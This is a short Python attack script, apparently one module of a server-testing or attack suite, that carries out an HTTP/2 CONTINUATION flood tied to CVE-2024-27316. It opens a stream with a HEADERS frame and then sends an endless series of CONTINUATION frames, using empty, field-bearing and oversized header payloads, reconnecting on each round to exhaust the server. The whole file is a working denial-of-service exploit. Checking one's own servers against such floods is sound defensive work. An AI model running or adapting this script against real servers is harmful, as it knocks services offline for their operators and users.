#!/usr/bin/python3
"""CONTINUATION flood (CVE-2024-27316 and its kin): a header list that never ends, in empty frames, in frames with fields, and on
a stream that was refused."""
from attacker import Peer, REQUEST, h2, main

MARK = ("http2.flood_empty", "http2.headers_bombs")
ENDED = True


def attack(run):
    pieces = (b"", b"\0\x01a\x01b", h2.literal("x", "y" * 4000), b"\x82" * 16000)
    turn = 0
    while run.going():
        piece = pieces[turn % len(pieces)]
        turn += 1
        peer = Peer(run)
        peer.send(h2.frame(h2.HEADERS, 0, 1, REQUEST))
        while peer.send(h2.frame(h2.CONT, 0, 1, piece) * 20, 20) and run.going():
            pass
        peer.wait(2)
        peer.close()


if __name__ == "__main__":
    main(attack)
